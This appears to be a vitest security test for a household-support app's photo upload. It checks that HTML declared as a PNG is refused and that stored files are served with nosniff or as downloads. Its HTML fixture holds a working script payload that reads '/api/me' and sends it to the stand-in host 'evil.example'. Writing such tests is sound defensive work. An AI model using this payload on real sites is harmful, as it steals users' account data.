// House photos from the attacker's side: HTML declared as a PNG must not be stored or served as a page.
import { beforeAll, describe, expect, it } from 'vitest';
import { useWorldApp } from '../../test/app';
import { sessionAs, type TestSession } from '../../test/factories';
import { addHousehold } from './testing';

const t = useWorldApp();
let staff: TestSession;
let supportId: number;
const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
const WEBP = Buffer.concat([Buffer.from('RIFF'), Buffer.from([0x24, 0, 0, 0]), Buffer.from('WEBPVP8 '), Buffer.alloc(24, 0)]);
const HTML = Buffer.from('<html><script>fetch("/api/me").then(r=>r.text()).then(t=>location="//evil.example/?"+t)</script></html>');

beforeAll(async () => {
  staff = await sessionAs(t.db, 'unit_staff', t.w.S);
  const hh = await addHousehold(t.db, staff.user, {
    unitId: t.w.B1,
    headName: 'Đinh Văn Tám',
    headBirthYear: 1956,
    classification: { year: 2026, classes: ['poor'], housingNeed: 'new' },
  });
  const r = await t.app.inject({
    method: 'POST',
    url: '/api/households/supports',
    headers: staff.headers,
    payload: { householdId: hh, kind: 'house', supportDate: '2026-03-01', house: { build: 'new', approvedOn: '2026-03-01', costVnd: 100_000_000, fromFundVnd: 100_000_000 } },
  });
  expect(r.statusCode, r.body).toBe(200);
  supportId = r.json().id;
});

const upload = (data: Buffer, mime: string, fileName = 'anh.png') =>
  t.app.inject({
    method: 'POST',
    url: `/api/households/supports/${supportId}/photos`,
    headers: staff.headers,
    payload: { fileName, mime, contentBase64: data.toString('base64') },
  });
const photos = async () => await t.db.query<{ id: number; mime: string }>('select id, mime from household_house_photos where support_id = $1 order by id', [supportId]);

describe('house photos: the type comes from the bytes', () => {
  it('refuses HTML declared as image/png and stores nothing', async () => {
    const res = await upload(HTML, 'image/png');
    expect(res.json().error.code).toBe('HOUSEHOLD_PHOTO_INVALID');
    expect(await photos()).toEqual([]);
  });

  it('stores a real image under its real type, whatever was declared, and serves it with nosniff', async () => {
    expect((await upload(WEBP, 'image/png', 'anh.webp')).statusCode).toBe(200);
    const [p] = await photos();
    expect(p.mime).toBe('image/webp');
    const got = await t.app.inject({ method: 'GET', url: `/api/households/photos/${p.id}`, headers: staff.headers });
    expect(got.headers['content-type']).toBe('image/webp');
    expect(got.headers['x-content-type-options']).toBe('nosniff');
    expect(got.headers['content-disposition']).toBe('inline');
  });

  it('a file stored before this check is served as a download, never as a page', async () => {
    await upload(PNG, 'image/png');
    const [, second] = await photos();
    await t.db.query(`update household_house_photos set data = $2, mime = 'image/png' where id = $1`, [second.id, HTML]);
    const got = await t.app.inject({ method: 'GET', url: `/api/households/photos/${second.id}`, headers: staff.headers });
    expect(got.headers['content-type']).toBe('application/octet-stream');
    expect(got.headers['content-disposition']).toBe('attachment');
    expect(got.headers['x-content-type-options']).toBe('nosniff');
  });
});
